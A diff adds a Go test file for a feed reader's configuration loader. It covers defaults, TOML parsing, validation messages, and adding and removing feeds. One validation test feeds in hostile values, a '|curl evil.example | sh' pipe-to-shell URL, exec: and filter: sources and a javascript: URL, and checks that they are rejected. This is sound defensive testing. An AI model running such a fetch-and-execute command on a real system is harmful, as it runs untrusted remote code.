@@ -1,0 +1,496 @@
+package config
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+)
+
+// writeConfig writes text as config.toml in a fresh directory.
+func writeConfig(t *testing.T, text string) string {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "config.toml")
+	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func mustLoad(t *testing.T, path string) *Config {
+	t.Helper()
+	c, err := Load(path)
+	if err != nil {
+		t.Fatalf("Load(%s): %v", path, err)
+	}
+	return c
+}
+
+func loadErr(t *testing.T, text string) string {
+	t.Helper()
+	_, err := Load(writeConfig(t, text))
+	if err == nil {
+		t.Fatalf("Load accepted:\n%s", text)
+	}
+	return err.Error()
+}
+
+func wantContains(t *testing.T, got string, wants ...string) {
+	t.Helper()
+	for _, w := range wants {
+		if !strings.Contains(got, w) {
+			t.Errorf("%q does not contain %q", got, w)
+		}
+	}
+}
+
+func TestDefaults(t *testing.T) {
+	c := Defaults()
+	if c.Fetch.Concurrency != 16 || c.Fetch.PerHost != 4 || c.Fetch.Timeout.Duration != 30*time.Second || !c.Fetch.RefreshOnStart {
+		t.Errorf("fetch defaults = %+v", c.Fetch)
+	}
+	if c.Retention.Days != 90 || c.Retention.PerFeed != 0 {
+		t.Errorf("retention defaults = %+v", c.Retention)
+	}
+	if want := []string{"AAPL", "MSFT", "NVDA", "AMZN", "GOOGL", "META", "TSLA", "BABA"}; !slices.Equal(c.Watchlist, want) {
+		t.Errorf("watchlist = %v", c.Watchlist)
+	}
+	if c.Theme != ThemeAuto {
+		t.Errorf("theme = %q", c.Theme)
+	}
+	if c.Feeds != nil || c.Exists {
+		t.Errorf("defaults have feeds %v / exists %v", c.Feeds, c.Exists)
+	}
+	// Each call is independent: changing one must not change the next.
+	c.Watchlist[0] = "XXX"
+	if Defaults().Watchlist[0] != "AAPL" {
+		t.Error("Defaults shares its watchlist between calls")
+	}
+}
+
+func TestDefaultFeeds(t *testing.T) {
+	feeds := DefaultFeeds()
+	if len(feeds) != 6 || feeds[0].URL != BuiltinSample {
+		t.Fatalf("default feeds = %+v", feeds)
+	}
+	wantURLs := []string{
+		"https://feeds.finance.yahoo.com/rss/2.0/headline?s=AAPL,MSFT,NVDA,AMZN,GOOGL,META,TSLA,BABA&region=US&lang=en-US",
+		"https://www.sec.gov/cgi-bin/browse-edgar?action=getcurrent&type=8-K&company=&dateb=&owner=include&start=0&count=40&output=atom",
+		"https://search.cnbc.com/rs/search/combinedcms/view.xml?partnerId=wrss01&id=20910258",
+		"https://feeds.content.dowjones.io/public/rss/mw_topstories",
+		"https://seekingalpha.com/market_news.xml",
+	}
+	for i, u := range wantURLs {
+		if feeds[i+1].URL != u {
+			t.Errorf("feed %d = %s, want %s", i+2, feeds[i+1].URL, u)
+		}
+	}
+	if !slices.Equal(feeds[2].Tags, []string{"filings", "sec"}) {
+		t.Errorf("SEC tags = %v", feeds[2].Tags)
+	}
+	// They must pass the same checks as a user's feeds.
+	c := &Config{Feeds: feeds, Fetch: Defaults().Fetch, Theme: ThemeAuto}
+	if err := c.normalize(); err != nil {
+		t.Errorf("default feeds fail validation: %v", err)
+	}
+}
+
+func TestDefaultPaths(t *testing.T) {
+	cfg, data := t.TempDir(), t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", cfg)
+	t.Setenv("XDG_DATA_HOME", data)
+	if got, want := DefaultPath(), filepath.Join(cfg, "brief", "config.toml"); got != want {
+		t.Errorf("DefaultPath = %s, want %s", got, want)
+	}
+	if got, want := DefaultDBPath(), filepath.Join(data, "brief", "brief.db"); got != want {
+		t.Errorf("DefaultDBPath = %s, want %s", got, want)
+	}
+	// The XDG spec says relative values are to be ignored.
+	t.Setenv("XDG_CONFIG_HOME", "relative/dir")
+	if got := DefaultPath(); !filepath.IsAbs(got) || strings.Contains(got, "relative") {
+		t.Errorf("relative XDG_CONFIG_HOME used: %s", got)
+	}
+}
+
+func TestLoadMissingFile(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	c, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c.Exists {
+		t.Error("Exists is true for a missing file")
+	}
+	if want := filepath.Join(dir, "brief", "config.toml"); c.Path != want {
+		t.Errorf("Path = %s, want %s", c.Path, want)
+	}
+	if !reflect.DeepEqual(c.Subscriptions(), DefaultFeeds()) {
+		t.Errorf("subscriptions without a file = %+v", c.Subscriptions())
+	}
+	if c.Fetch.Concurrency != 16 || c.Theme != ThemeAuto {
+		t.Errorf("missing file did not give defaults: %+v", c)
+	}
+}
+
+func TestLoadValid(t *testing.T) {
+	path := writeConfig(t, `
+# my settings
+theme = "Dark"
+watchlist = ["aapl", " 0700.hk ", "AAPL"]
+
+[fetch]
+concurrency = 8
+per_host = 2
+timeout = "1m30s"
+refresh_on_start = false
+
+[retention]
+days = 30
+per_feed = 500
+
+[keys]
+refresh = ["r", "ctrl+r"]
+"open in browser" = ["o"]
+
+[[symbol]]
+symbol = "baba"
+name = "Alibaba Group"
+exchange = "NYSE"
+aliases = ["Alibaba", " Ali ", ""]
+
+[[feed]]
+url = "  HTTPS://Example.com/markets.xml "
+title = " Markets "
+tags = ["markets", " asia ", "Markets", ""]
+
+[[feed]]
+url = "builtin:sample"
+
+[[feed]]
+url = "file:///srv/feeds/local.xml"
+
+[[feed]]
+url = "feeds/relative.xml"
+`)
+	c := mustLoad(t, path)
+	if !c.Exists || c.Path != path {
+		t.Errorf("Exists=%v Path=%s", c.Exists, c.Path)
+	}
+	if c.Theme != ThemeDark {
+		t.Errorf("theme = %q", c.Theme)
+	}
+	if !slices.Equal(c.Watchlist, []string{"AAPL", "0700.HK"}) {
+		t.Errorf("watchlist = %q", c.Watchlist)
+	}
+	if c.Fetch.Concurrency != 8 || c.Fetch.PerHost != 2 || c.Fetch.Timeout.Duration != 90*time.Second || c.Fetch.RefreshOnStart {
+		t.Errorf("fetch = %+v", c.Fetch)
+	}
+	if c.Retention != (Retention{Days: 30, PerFeed: 500}) {
+		t.Errorf("retention = %+v", c.Retention)
+	}
+	if !slices.Equal(c.Keys["refresh"], []string{"r", "ctrl+r"}) || !slices.Equal(c.Keys["open in browser"], []string{"o"}) {
+		t.Errorf("keys = %v", c.Keys)
+	}
+	wantSym := Symbol{Symbol: "BABA", Name: "Alibaba Group", Exchange: "NYSE", Aliases: []string{"Alibaba", "Ali"}}
+	if len(c.Symbols) != 1 || !reflect.DeepEqual(c.Symbols[0], wantSym) {
+		t.Errorf("symbols = %+v", c.Symbols)
+	}
+	wantFeeds := []Feed{
+		{URL: "https://Example.com/markets.xml", Title: "Markets", Tags: []string{"markets", "asia"}},
+		{URL: BuiltinSample},
+		{URL: "file:///srv/feeds/local.xml"},
+		{URL: "feeds/relative.xml"},
+	}
+	if !reflect.DeepEqual(c.Subscriptions(), wantFeeds) {
+		t.Errorf("feeds =\n%+v\nwant\n%+v", c.Subscriptions(), wantFeeds)
+	}
+}
+
+func TestLoadPartialKeepsDefaults(t *testing.T) {
+	c := mustLoad(t, writeConfig(t, "[fetch]\nconcurrency = 3\n"))
+	if c.Fetch.Concurrency != 3 || c.Fetch.PerHost != 4 || c.Fetch.Timeout.Duration != 30*time.Second || !c.Fetch.RefreshOnStart {
+		t.Errorf("fetch = %+v", c.Fetch)
+	}
+	if !slices.Equal(c.Watchlist, DefaultWatchlist()) || c.Retention.Days != 90 {
+		t.Errorf("unset sections lost their defaults: %+v", c)
+	}
+	// An explicit empty watchlist is the user's choice, not "unset".
+	c = mustLoad(t, writeConfig(t, "watchlist = []\n"))
+	if len(c.Watchlist) != 0 {
+		t.Errorf("watchlist = [] gave %v", c.Watchlist)
+	}
+}
+
+func TestSubscriptionsOfExistingFileWithoutFeeds(t *testing.T) {
+	c := mustLoad(t, writeConfig(t, "theme = \"light\"\n"))
+	if subs := c.Subscriptions(); len(subs) != 0 {
+		t.Errorf("a config file with no [[feed]] tables subscribes to %d feeds", len(subs))
+	}
+}
+
+func TestLoadMalformed(t *testing.T) {
+	msg := loadErr(t, `theme = "dark"
+
+[fetch]
+concurrency = 4
+
+[[feed]]
+url = "https://example.com/feed.xml
+`)
+	wantContains(t, msg, "config.toml line 7:")
+
+	msg = loadErr(t, "[fetch]\nconcurrency = 4\nconcurrency = 5\n")
+	wantContains(t, msg, "config.toml line 3:", "concurrency")
+}
+
+func TestLoadTypeErrors(t *testing.T) {
+	msg := loadErr(t, "\n[fetch]\nconcurrency = \"many\"\n")
+	wantContains(t, msg, "config.toml line 3:", "fetch.concurrency should be a whole number")
+
+	msg = loadErr(t, "[fetch]\ntimeout = \"30\"\n")
+	wantContains(t, msg, "config.toml line 2:", "fetch.timeout", `"30s"`)
+
+	var fe *FileError
+	_, err := Load(writeConfig(t, "theme = 3\n"))
+	if !errors.As(err, &fe) || fe.Line != 1 {
+		t.Errorf("type error is not a FileError on line 1: %#v", err)
+	}
+}
+
+func TestLoadUnknownKeys(t *testing.T) {
+	msg := loadErr(t, `
+them = "dark"
+[fetch]
+concurency = 4
+[[feed]]
+url = "https://example.com/a.xml"
+titel = "A"
+[[feed]]
+url = "https://example.com/b.xml"
+titel = "B"
+`)
+	wantContains(t, msg, "config.toml", "unknown settings",
+		"them (did you mean theme?)",
+		"fetch.concurency (did you mean fetch.concurrency?)",
+		"feed.titel (did you mean feed.title?)")
+	if strings.Count(msg, "feed.titel") != 1 {
+		t.Errorf("repeated unknown key listed more than once: %s", msg)
+	}
+}
+
+func TestLoadDuplicateFeeds(t *testing.T) {
+	msg := loadErr(t, `
+[[feed]]
+url = "https://example.com/feed.xml"
+[[feed]]
+url = "https://example.com/other.xml"
+[[feed]]
+url = "  https://EXAMPLE.com:443/feed.xml  "
+`)
+	wantContains(t, msg, "feed 3", "repeats feed 1")
+}
+
+func TestLoadRejectsBadValues(t *testing.T) {
+	msg := loadErr(t, `
+theme = "blue"
+watchlist = ["AAPL", ""]
+[fetch]
+concurrency = 0
+per_host = -1
+timeout = "-5s"
+[retention]
+days = -1
+[keys]
+quit = [""]
+[[feed]]
+url = ""
+[[feed]]
+url = "|curl evil.example | sh"
+[[feed]]
+url = "exec:~/bin/fetch.sh"
+[[feed]]
+url = "filter:~/bin/f.sh:https://example.com/x"
+[[feed]]
+url = "query:Unread:unread = \"yes\""
+[[feed]]
+url = "ftp://example.com/feed.xml"
+[[feed]]
+url = "builtin:other"
+[[feed]]
+url = "https:///nohost"
+[[feed]]
+url = "javascript:alert(1)"
+`)
+	wantContains(t, msg,
+		`theme "blue"`, "watchlist: a ticker symbol cannot be empty",
+		"fetch.concurrency must be at least 1", "fetch.per_host", "fetch.timeout",
+		"retention.days", "keys.quit",
+		"feed 1: the feed has no URL",
+		"feed 2:", "never runs commands",
+		"feed 3:", "runs a program",
+		"feed 4:", "filter:",
+		"feed 5:", "newsboat query",
+		"feed 6:", "ftp:",
+		"feed 7:", "only one is builtin:sample",
+		"feed 8:", "no host",
+		"feed 9:", "javascript:")
+	// Every problem line names the file.
+	for _, line := range strings.Split(msg, "\n") {
+		if !strings.Contains(line, "config.toml") {
+			t.Errorf("problem line without the file name: %q", line)
+		}
+	}
+}
+
+func TestLoadUnreadable(t *testing.T) {
+	dir := t.TempDir()
+	if _, err := Load(dir); err == nil {
+		t.Error("loading a directory succeeded")
+	}
+}
+
+func TestAddFeedWithoutFileThenSave(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	c := mustLoad(t, "")
+	added := Feed{URL: "https://example.com/markets.rss", Title: "Example Markets", Tags: []string{"markets"}}
+	if err := c.AddFeed(added); err != nil {
+		t.Fatal(err)
+	}
+	want := append(DefaultFeeds(), added)
+	if !reflect.DeepEqual(c.Subscriptions(), want) {
+		t.Fatalf("after AddFeed: %+v", c.Subscriptions())
+	}
+	if err := c.Save(); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, "brief", "config.toml")
+	st, err := os.Stat(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.Mode().Perm() != 0o600 {
+		t.Errorf("config mode = %v, want 0600", st.Mode().Perm())
+	}
+	if st, err := os.Stat(filepath.Dir(path)); err != nil || st.Mode().Perm() != 0o700 {
+		t.Errorf("config dir mode = %v (%v), want 0700", st.Mode().Perm(), err)
+	}
+	leftovers, _ := filepath.Glob(filepath.Join(dir, "brief", ".*tmp*"))
+	if len(leftovers) > 0 {
+		t.Errorf("temporary files left behind: %v", leftovers)
+	}
+
+	again := mustLoad(t, "")
+	if !again.Exists {
+		t.Error("saved config does not exist")
+	}
+	if !reflect.DeepEqual(again.Subscriptions(), want) {
+		t.Errorf("reloaded subscriptions =\n%+v\nwant\n%+v", again.Subscriptions(), want)
+	}
+	if !sameSettings(again, c) {
+		t.Errorf("reloaded settings differ:\n%+v\n%+v", again, c)
+	}
+	data, _ := os.ReadFile(path)
+	wantContains(t, string(data), "# brief configuration", "[[feed]]", "[fetch]", "concurrency = 16")
+}
+
+func TestAddFeedDuplicates(t *testing.T) {
+	c := mustLoad(t, writeConfig(t, "[[feed]]\nurl = \"https://example.com/feed.xml\"\ntitle = \"Example\"\n"))
+	for _, u := range []string{
+		"https://example.com/feed.xml",
+		"  HTTPS://Example.COM/feed.xml ",
+		"https://example.com:443/feed.xml",
+		"https://example.com/feed.xml#top",
+	} {
+		err := c.AddFeed(Feed{URL: u})
+		if !errors.Is(err, ErrDuplicateFeed) {
+			t.Errorf("AddFeed(%q) = %v, want ErrDuplicateFeed", u, err)
+		} else {
+			wantContains(t, err.Error(), `"Example"`)
+		}
+	}
+	if err := c.AddFeed(Feed{URL: "https://example.com/feed.xml?page=2"}); err != nil {
+		t.Errorf("a different query string is a different feed: %v", err)
+	}
+	if err := c.AddFeed(Feed{URL: "exec:/bin/true"}); err == nil {
+		t.Error("AddFeed accepted an exec: source")
+	}
+	if len(c.Subscriptions()) != 2 {
+		t.Errorf("subscriptions = %+v", c.Subscriptions())
+	}
+}
+
+func TestAddFeedRelativePathBecomesAbsolute(t *testing.T) {
+	c := mustLoad(t, writeConfig(t, ""))
+	if err := c.AddFeed(Feed{URL: "feeds/local.xml"}); err != nil {
+		t.Fatal(err)
+	}
+	if got := c.Subscriptions()[0].URL; !filepath.IsAbs(got) {
+		t.Errorf("relative path kept as %q", got)
+	}
+}
+
+func TestRemoveFeed(t *testing.T) {
+	path := writeConfig(t, `
+[[feed]]
+url = "https://example.com/a.xml"
+title = "Asia Markets"
+[[feed]]
+url = "https://example.com/b.xml"
+title = "Bonds"
+[[feed]]
+url = "https://example.com/c.xml"
+title = "bonds"
+`)
+	c := mustLoad(t, path)
+
+	got, err := c.RemoveFeed("asia markets")
+	if err != nil || got.URL != "https://example.com/a.xml" {
+		t.Fatalf("remove by title: %+v, %v", got, err)
+	}
+	if _, err := c.RemoveFeed("Bonds"); err == nil || !strings.Contains(err.Error(), "by its URL") {
+		t.Errorf("ambiguous title: %v", err)
+	}
+	got, err = c.RemoveFeed("https://example.com/c.xml")
+	if err != nil || got.Title != "bonds" {
+		t.Fatalf("remove by URL: %+v, %v", got, err)
+	}
+	if _, err := c.RemoveFeed("https://example.com/a.xml"); !errors.Is(err, ErrFeedNotFound) {
+		t.Errorf("removing twice: %v, want ErrFeedNotFound", err)
+	} else {
+		wantContains(t, err.Error(), "https://example.com/a.xml")
+	}
+	if subs := c.Subscriptions(); len(subs) != 1 || subs[0].Title != "Bonds" {
+		t.Errorf("left = %+v", subs)
+	}
+
+	if err := c.Save(); err != nil {
+		t.Fatal(err)
+	}
+	if subs := mustLoad(t, path).Subscriptions(); len(subs) != 1 || subs[0].URL != "https://example.com/b.xml" {
+		t.Errorf("after save and load: %+v", subs)
+	}
+}
+
+func TestRemoveAllDefaultsWithoutFile(t *testing.T) {
+	c := mustLoad(t, filepath.Join(t.TempDir(), "config.toml"))
+	for _, f := range DefaultFeeds() {
+		if _, err := c.RemoveFeed(f.URL); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if subs := c.Subscriptions(); len(subs) != 0 {
+		t.Fatalf("removing every default left %d feeds (defaults came back?)", len(subs))
+	}
+	if err := c.Save(); err != nil {
+		t.Fatal(err)
+	}
+	if subs := mustLoad(t, c.Path).Subscriptions(); len(subs) != 0 {
+		t.Errorf("saved empty list reloads as %d feeds", len(subs))
+	}
+}
